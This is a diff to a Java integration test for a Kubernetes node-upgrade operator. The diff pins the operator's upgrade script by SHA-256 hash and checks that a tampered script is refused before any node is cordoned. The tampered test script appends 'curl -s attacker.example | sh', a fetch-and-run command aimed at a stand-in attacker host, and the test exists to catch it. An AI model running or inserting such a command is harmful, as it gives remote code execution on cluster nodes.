@@ -34,6 +34,9 @@ import io.fabric8.kubernetes.client.dsl.base.PatchType;
  */
 class NodeUpgradeIT extends NodeUpgradeScenario {
     private static final String SCRIPT_CONFIGMAP = "nu-it-kubeadm-upgrade";
+    private static final String SCRIPT = "#!/bin/sh\n# $1: target version, $2: apply|node\nset -eu\n"
+            + "if [ \"$2\" = apply ]; then kubeadm upgrade apply \"$1\" --yes; else kubeadm upgrade node; fi\n"
+            + "systemctl restart kubelet\n";
     private static final Duration UPGRADE_TIME = Duration.ofSeconds(120);
 
     NodeUpgradeIT() {
@@ -43,15 +46,39 @@ class NodeUpgradeIT extends NodeUpgradeScenario {
     @Override
     protected Map<String, String> prepare(TestBed shared) {
         shared.client().configMaps().inNamespace(TestBed.OPERATOR_NAMESPACE).resource(new ConfigMapBuilder()
-                .withNewMetadata().withName(SCRIPT_CONFIGMAP).endMetadata()
-                .addToData("upgrade.sh", "#!/bin/sh\n# $1: target version, $2: apply|node\nset -eu\n"
-                        + "if [ \"$2\" = apply ]; then kubeadm upgrade apply \"$1\" --yes; else kubeadm upgrade node; fi\n"
-                        + "systemctl restart kubelet\n").build()).serverSideApply();
-        return Map.of();
+                .withNewMetadata().withName(SCRIPT_CONFIGMAP).endMetadata().addToData("upgrade.sh", SCRIPT).build()).serverSideApply();
+        return operatorProperties();
+    }
+
+    /** The script is the only one the operator may run, as the chart's upgrade.scripts would list it. */
+    private static Map<String, String> operatorProperties() {
+        return Map.of("cks.upgrade.script-sha256", ScriptTrust.sha256(SCRIPT));
     }
 
     private static UpgradeExecutor script() {
         return UpgradeBed.script(SCRIPT_CONFIGMAP, "upgrade.sh");
+    }
+
+    @Test
+    void aScriptChangedInItsConfigMapIsRefusedBeforeAnyNodeIsCordoned() {
+        String w1 = bed.worker(FROM);
+        String tampered = "nu-it-tampered";
+        bed.client.configMaps().inNamespace(TestBed.OPERATOR_NAMESPACE).resource(new ConfigMapBuilder()
+                .withNewMetadata().withName(tampered).endMetadata().addToData("upgrade.sh", SCRIPT + "curl -s attacker.example | sh\n").build())
+                .serverSideApply();
+        try {
+            bed.create("nu-tampered", UpgradeBed.script(tampered, "upgrade.sh"), spec -> { });
+            NodeUpgrade failed = bed.await("nu-tampered", UPGRADE_TIME, phase(NodeUpgradeStatus.Phase.Failed));
+
+            assertThat(nodeStatus(failed, w1).getError()).contains("ConfigMap " + TestBed.OPERATOR_NAMESPACE + "/" + tampered)
+                    .contains("does not list").contains("Nothing was cordoned");
+            assertThat(nodeStatus(failed, w1).getCordonedByUs()).as("never cordoned").isNull();
+            assertThat(bed.events("nu-tampered")).extracting(io.fabric8.kubernetes.api.model.Event::getReason).doesNotContain("Cordoned", "Draining");
+            assertThat(kubelets.jobsOn(List.of(w1))).as("no Job").isEmpty();
+            bed.assertReleased(w1, false);
+        } finally {
+            bed.client.configMaps().inNamespace(TestBed.OPERATOR_NAMESPACE).withName(tampered).delete();
+        }
     }
 
     @Test
@@ -67,6 +94,9 @@ class NodeUpgradeIT extends NodeUpgradeScenario {
         List<String> planned = done.getStatus().getNodes().stream().map(UpgradeNodeStatus::getName).toList();
         assertThat(planned.get(0)).isEqualTo(control);
         assertThat(planned).containsExactlyInAnyOrder(control, w1, w2, w3);
+        assertThat(bed.client.batch().v1().jobs().inNamespace(TestBed.OPERATOR_NAMESPACE).withLabel(UpgradeJob.LABEL_NODE, w1).list().getItems())
+                .singleElement().satisfies(job -> assertThat(job.getMetadata().getAnnotations())
+                        .containsEntry(UpgradeJob.ANNOTATION_SCRIPT_SHA256, ScriptTrust.sha256(SCRIPT)));
         assertThat(kubelets.jobsOn(bed.nodes)).as("one Job per node, in the planned order")
                 .extracting(SeenJob::node, SeenJob::action)
                 .containsExactly(tuple(planned.get(0), "Apply"), tuple(planned.get(1), "Node"), tuple(planned.get(2), "Node"), tuple(planned.get(3), "Node"));
@@ -333,7 +363,7 @@ class NodeUpgradeIT extends NodeUpgradeScenario {
 
             operator.kill();
         }
-        operator = OperatorProcess.start(testBed, "nodeupgrade-it-restarted", Map.of());
+        operator = OperatorProcess.start(testBed, "nodeupgrade-it-restarted", operatorProperties());
         NodeUpgrade done = bed.await("nu-restart", UPGRADE_TIME, phase(NodeUpgradeStatus.Phase.Succeeded));
 
         assertThat(nodeStatus(done, w1).getJobName()).isEqualTo(jobName);
